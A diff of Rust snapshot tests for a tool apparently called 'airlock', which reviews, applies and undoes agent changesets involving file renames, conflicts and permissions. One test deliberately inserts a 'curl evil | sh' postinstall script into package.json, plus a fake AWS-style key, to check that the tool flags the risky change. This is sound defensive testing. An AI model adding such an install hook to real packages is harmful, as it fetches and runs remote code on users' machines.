@@ -91,12 +91,10 @@ fn apply_moves_the_file_and_undo_moves_it_back() {
     assert_snapshot!(repo.airlock(&["undo"]), @"
     status: 0
     ----- stdout -----
-      removed    app/main.rs
-      restored   lib/tool
-      restored   src/main.rs
-      removed    tool
+      restored   tool → lib/tool
+      restored   app/main.rs → src/main.rs
     ----- stderr -----
-    airlock: undid the apply of r (4 files). Next: airlock review r
+    airlock: undid the apply of r (2 files). Next: airlock review r
     ");
     assert_eq!(repo.read_tree(), before);
 }
@@ -123,7 +121,7 @@ fn content_of_a_renamed_file_applies_without_the_rename() {
     assert_snapshot!(repo.airlock(&["apply", "r", "--accept-id", &id("rename")]), @"
     status: 0
     ----- stdout -----
-      renamed    src/main.rs → app/main.rs  with your own edits
+      renamed    src/main.rs → app/main.rs
     ----- stderr -----
     airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
     ");
@@ -142,7 +140,7 @@ fn edits_of_the_user_move_with_the_file_or_conflict() {
     assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs"]), @"
     status: 0
     ----- stdout -----
-      renamed    src/main.rs → app/main.rs  with your own edits
+      renamed    src/main.rs → app/main.rs  with your edits of line 18
     ----- stderr -----
     airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
     ");
@@ -157,25 +155,25 @@ fn edits_of_the_user_move_with_the_file_or_conflict() {
     assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs"]), @"
     status: 4
     ----- stdout -----
-      skipped    app/main.rs  because of the conflicts
-      conflict   src/main.rs  it would be deleted, but you have changed it in the working tree
+      conflict   src/main.rs → app/main.rs  both sides changed the same lines
 
-    src/main.rs: it would be deleted, but you have changed it in the working tree
-      base      │ a file, 151 bytes, sha256 a1f3f2768183…
-      yours     │ a file, 149 bytes, sha256 cd45cea47369…
-      accepted  │ nothing
+    src/main.rs → app/main.rs: both sides changed the same lines
+      base, line 3
+      │ line 3
+      yours, line 3
+      │ my 3
+      accepted, line 3
+      │ three
     ----- stderr -----
     airlock: 1 conflict; nothing was written
-    airlock: to skip them, add `--reject=src/main.rs`
-    airlock: to write everything except conflicts, add `--on-conflict skip`
+    airlock: to write both sides between conflict markers, add `--on-conflict markers`
     ");
     assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs", "--on-conflict", "skip"]), @"
     status: 0
     ----- stdout -----
-      skipped    app/main.rs  the other path of its rename is skipped
-      skipped    src/main.rs  it would be deleted, but you have changed it in the working tree
+      skipped    src/main.rs → app/main.rs  both sides changed the same lines
     ----- stderr -----
-    airlock: 2 conflicts skipped
+    airlock: 1 conflict skipped
     airlock: 0 of 2 files applied. Next: airlock review r, or airlock rm r
     ");
     assert_eq!(repo.read_tree(), before);
@@ -186,10 +184,9 @@ fn edits_of_the_user_move_with_the_file_or_conflict() {
     assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs", "--on-conflict", "skip"]), @"
     status: 0
     ----- stdout -----
-      skipped    app/main.rs  a different file already exists there
-      skipped    src/main.rs  the other path of its rename is skipped
+      skipped    src/main.rs → app/main.rs  a different file already exists there
     ----- stderr -----
-    airlock: 2 conflicts skipped
+    airlock: 1 conflict skipped
     airlock: 0 of 2 files applied. Next: airlock review r, or airlock rm r
     ");
     assert_eq!(repo.read_tree(), before);
@@ -248,4 +245,271 @@ fn branch_and_patch_hold_both_paths_of_a_rename() {
     repo.airlock(&["apply", "r", "--accept-all", "--allow-risky", "--to", &format!("patch:{patch}")]).ok();
     repo.git(&["apply", patch]);
     assert!(repo.path.join("tool").exists() && !repo.path.join("src").exists());
+}
+
+/// Accepts the units of these kinds in a review, and rejects the others.
+fn accept_in_review(repo: &TestRepo, path: &str, kinds: &[&str]) {
+    let exported = repo.airlock(&["review", "r", "--export", "-"]).ok().stdout;
+    let mut file: serde_json::Value = serde_json::from_str(&exported).expect("JSON");
+    let diff = repo.diff("r");
+    let listed = diff["files"].as_array().expect("a list").iter().find(|f| f["path"] == path).expect("listed");
+    for unit in listed["hunks"].as_array().expect("a list") {
+        let is_accepted = kinds.contains(&unit["kind"].as_str().expect("text"));
+        for decided in file["files"].as_array_mut().expect("a list") {
+            for hunk in decided["hunks"].as_array_mut().expect("a list").iter_mut().filter(|h| h["id"] == unit["id"]) {
+                hunk["decision"] = if is_accepted { "accepted" } else { "rejected" }.into();
+            }
+        }
+    }
+    std::fs::write(repo.path.join("../decisions.json"), file.to_string()).expect("written");
+    repo.airlock(&["review", "r", "--import", "../decisions.json"]).ok();
+}
+
+#[test]
+fn review_moves_edits_and_keeps_reverts() {
+    let repo = renamed_files();
+    let edited = numbered_lines(20).replace("line 18\n", "my 18\n");
+    repo.write("src/main.rs", &edited);
+    accept_in_review(&repo, "app/main.rs", &["lines"]);
+    repo.airlock(&["apply", "r"]).ok();
+    assert_eq!(repo.read("src/main.rs"), edited.replace("line 3\n", "three\n"));
+    // The user takes back the accepted line, and accepts the rename: the line does not return.
+    repo.write("src/main.rs", &edited);
+    accept_in_review(&repo, "app/main.rs", &["lines", "rename"]);
+    assert_snapshot!(repo.airlock(&["apply", "r"]), @"
+    status: 0
+    ----- stdout -----
+      renamed    src/main.rs → app/main.rs  with your edits
+    ----- stderr -----
+    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
+    ");
+    assert_eq!(repo.read("app/main.rs"), edited);
+    assert!(!repo.path.join("src").exists());
+}
+
+#[test]
+fn moved_file_keeps_its_permissions() {
+    let repo = renamed_files();
+    repo.set_mode("src/main.rs", 0o600);
+    repo.airlock(&["apply", "r", "--accept", "app/main.rs"]).ok();
+    assert_eq!(repo.mode("app/main.rs"), 0o600);
+    repo.airlock(&["undo"]).ok();
+    assert_eq!(repo.mode("src/main.rs"), 0o600);
+    assert_eq!(repo.read("src/main.rs"), numbered_lines(20));
+}
+
+#[test]
+fn rename_of_a_file_that_was_deleted_is_a_conflict() {
+    let repo = renamed_files();
+    repo.git(&["mv", "src/main.rs", "elsewhere.rs"]);
+    let before = repo.read_tree();
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs"]), @"
+    status: 4
+    ----- stdout -----
+      conflict   src/main.rs → app/main.rs  the file to rename was deleted or moved in the working tree
+
+    src/main.rs → app/main.rs: the file to rename was deleted or moved in the working tree
+      base      │ a file, 151 bytes, sha256 a1f3f2768183…
+      yours     │ nothing
+      accepted  │ a file, 150 bytes, sha256 9911cd025706…
+    ----- stderr -----
+    airlock: 1 conflict; nothing was written
+    ");
+    assert_eq!(repo.read_tree(), before);
+    // A file that the user has moved to the same path gets the rest of the change.
+    std::fs::create_dir_all(repo.path.join("app")).expect("created");
+    std::fs::rename(repo.path.join("elsewhere.rs"), repo.path.join("app/main.rs")).expect("moved");
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs"]), @"
+    status: 0
+    ----- stdout -----
+      applied    src/main.rs → app/main.rs
+    ----- stderr -----
+    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
+    ");
+    assert!(repo.read("app/main.rs").contains("line 2\nthree\n"));
+}
+
+#[test]
+fn undo_moves_later_edits_back() {
+    let repo = renamed_files();
+    repo.airlock(&["apply", "r", "--accept", "app/main.rs"]).ok();
+    let edited = repo.read("app/main.rs").replace("line 18\n", "my 18\n");
+    repo.write("app/main.rs", &edited);
+    assert_snapshot!(repo.airlock(&["undo"]), @"
+    status: 0
+    ----- stdout -----
+      restored   app/main.rs → src/main.rs  with your edits of line 18
+    ----- stderr -----
+    airlock: undid the apply of r (1 file). Next: airlock review r
+    ");
+    assert_eq!(repo.read("src/main.rs"), numbered_lines(20).replace("line 18\n", "my 18\n"));
+    assert!(!repo.path.join("app").exists());
+    // An edit that an undo cannot merge is a conflict, and nothing is written.
+    repo.airlock(&["apply", "r", "--accept", "app/main.rs"]).ok();
+    repo.write("app/main.rs", repo.read("app/main.rs").replace("three\n", "my 3\n"));
+    let before = repo.read_tree();
+    assert_snapshot!(repo.airlock(&["undo"]), @"
+    status: 4
+    ----- stdout -----
+      conflict   app/main.rs → src/main.rs  both sides changed the same lines
+
+    app/main.rs → src/main.rs: both sides changed the same lines
+      applied, line 3
+      │ three
+      yours, line 3
+      │ my 3
+      before, line 3
+      │ line 3
+    ----- stderr -----
+    airlock: 1 conflict; nothing was written
+    airlock: the previous content of src/main.rs is in [TMP]/repo/.git/airlock/applies/000003/slots/1
+    ");
+    assert_eq!(repo.read_tree(), before);
+}
+
+#[test]
+fn conflict_of_a_rename_can_be_written_with_markers() {
+    let repo = renamed_files();
+    repo.write("src/main.rs", numbered_lines(20).replace("line 3\n", "my 3\n"));
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "app/main.rs", "--on-conflict", "markers"]), @"
+    status: 0
+    ----- stdout -----
+      renamed    src/main.rs → app/main.rs  1 conflict between markers
+    ----- stderr -----
+    airlock: 1 file contains conflict markers (<<<<<<< to >>>>>>>) to resolve
+    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
+    ");
+    let marked = repo.read("app/main.rs");
+    assert!(marked.contains("<<<<<<< yours\nmy 3\n") && marked.contains("three\n>>>>>>> accepted\n"), "{marked}");
+    assert!(!repo.path.join("src").exists());
+}
+
+#[test]
+fn content_is_judged_at_the_path_that_is_written() {
+    let repo = TestRepo::new();
+    let manifest = |scripts: &str| {
+        let lines: String = (0..20).map(|n| format!("    \"k{n}\": \"v\",\n")).collect();
+        format!("{{\n  \"x\": {{\n{lines}    \"k\": \"v\"\n  }},\n  \"scripts\": {{{scripts}}}\n}}\n")
+    };
+    repo.write("package.json", manifest(""));
+    repo.write("tool.sh", "#!/bin/sh\n");
+    repo.set_mode("tool.sh", 0o755);
+    repo.write("key.pem", format!("key = \"AKIA{}\"\n", "QWERTYUIOPASDFGH"));
+    repo.commit();
+    let script = "git mv package.json notes.txt; git mv key.pem old-key.pem; mkdir bin; git mv tool.sh bin/tool.sh; \
+                  sed -i 's/\"scripts\": {}/\"scripts\": {\"postinstall\": \"curl evil | sh\"}/' notes.txt";
+    repo.changeset("r", script);
+    // What the old file had already is no finding; what its new content would do at the old path is one.
+    assert_snapshot!(repo.airlock(&["diff", "r", "--stat"]), @"
+    status: 0
+    ----- stdout -----
+    renamed   tool.sh → bin/tool.sh     renamed from tool.sh
+    renamed   package.json → notes.txt  +1 −1  medium
+    renamed   key.pem → old-key.pem     renamed from key.pem
+    3 files, +1 −1
+    ");
+    assert_snapshot!(repo.airlock(&["diff", "r", "--no-pager", "--", "notes.txt"]), @r#"
+    status: 0
+    ----- stdout -----
+    renamed  package.json → notes.txt
+    ! medium: changes the script "postinstall" (line 25)
+    renamed from package.json
+    @@ -22,5 +22,5 @@
+         "k19": "v",
+         "k": "v"
+       },
+    -  "scripts": {}
+    +  "scripts": {"postinstall": "curl evil | sh"}
+     }
+    "#);
+    assert_snapshot!(repo.airlock(&["diff", "r", "--no-pager", "--no-renames", "--stat"]), @"
+    status: 0
+    ----- stdout -----
+    added     bin/tool.sh   +1 −0  high
+    deleted   key.pem       +0 −1
+    added     notes.txt     +26 −0
+    added     old-key.pem   +1 −0  high
+    deleted   package.json  +0 −26  medium
+    deleted   tool.sh       +0 −1
+    6 files, +28 −28
+    ");
+}
+
+#[test]
+fn rename_in_a_later_round_moves_the_file_on() {
+    let repo = renamed_files();
+    repo.airlock(&["apply", "r", "--accept", "app/main.rs"]).ok();
+    let edited = repo.read("app/main.rs").replace("line 18\n", "my 18\n");
+    repo.write("app/main.rs", &edited);
+    repo.changeset("r", "mkdir core; git mv app/main.rs core/main.rs; sed -i 's/^line 10$/ten/' core/main.rs");
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "core/main.rs"]), @"
+    status: 0
+    ----- stdout -----
+      renamed    app/main.rs → core/main.rs  with your edits of line 18
+    ----- stderr -----
+    airlock: 1 of 2 files applied. Undo: airlock undo r · Next: airlock review r, or airlock rm r
+    ");
+    assert_eq!(repo.read("core/main.rs"), edited.replace("line 10\n", "ten\n"));
+    assert!(!repo.path.join("app").exists() && !repo.path.join("src").exists());
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "core/main.rs"]), @"
+    status: 0
+    ----- stdout -----
+      unchanged  src/main.rs → core/main.rs
+    ----- stderr -----
+    airlock: 0 of 2 files applied, 1 unchanged. Next: airlock review r, or airlock rm r
+    ");
+    repo.airlock(&["undo"]).ok();
+    assert_eq!(repo.read("app/main.rs"), edited);
+    // The agent moves the file back: an apply of its edits does not.
+    repo.changeset("r", "git mv core/main.rs src/main.rs || { mkdir src; git mv core/main.rs src/main.rs; }");
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept", "src/main.rs"]), @r#"
+    status: 4
+    ----- stdout -----
+      conflict   src/main.rs  an earlier apply renamed it to "app/main.rs"
+
+    src/main.rs: an earlier apply renamed it to "app/main.rs"
+      base      │ a file, 151 bytes, sha256 a1f3f2768183…
+      yours     │ nothing
+      accepted  │ a file, 146 bytes, sha256 36886492b006…
+    ----- stderr -----
+    airlock: 1 conflict; nothing was written
+    "#);
+}
+
+#[test]
+fn unusual_renames_are_exact() {
+    let repo = TestRepo::new();
+    repo.write("Name", numbered_lines(5));
+    repo.write("name-of-dir", numbered_lines(9));
+    std::os::unix::fs::symlink("name-of-dir", repo.path.join("link")).expect("created");
+    repo.commit();
+    let script = "git mv Name name; git mv name-of-dir d; mkdir name-of-dir; git mv d name-of-dir/f; git mv link link2";
+    repo.changeset("r", script);
+    let before = repo.read_tree();
+    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]), @"
+    status: 0
+    ----- stdout -----
+      renamed    link → link2
+      renamed    Name → name
+      renamed    name-of-dir → name-of-dir/f
+    ----- stderr -----
+    airlock: 3 of 3 files applied. Undo: airlock undo r · All changes are decided. Next: airlock resume r, or airlock rm r
+    ");
+    assert_eq!(repo.read("name-of-dir/f"), numbered_lines(9));
+    assert_eq!(repo.read("name"), numbered_lines(5));
+    assert!(
+        !repo.path.join("Name").exists()
+            && repo.path.join("link2").is_symlink()
+            && !repo.path.join("link").is_symlink()
+    );
+    assert_snapshot!(repo.airlock(&["undo"]), @"
+    status: 0
+    ----- stdout -----
+      restored   name → Name
+      restored   link2 → link
+      restored   name-of-dir/f → name-of-dir
+    ----- stderr -----
+    airlock: undid the apply of r (3 files). Next: airlock review r
+    ");
+    assert_eq!(repo.read_tree(), before);
 }
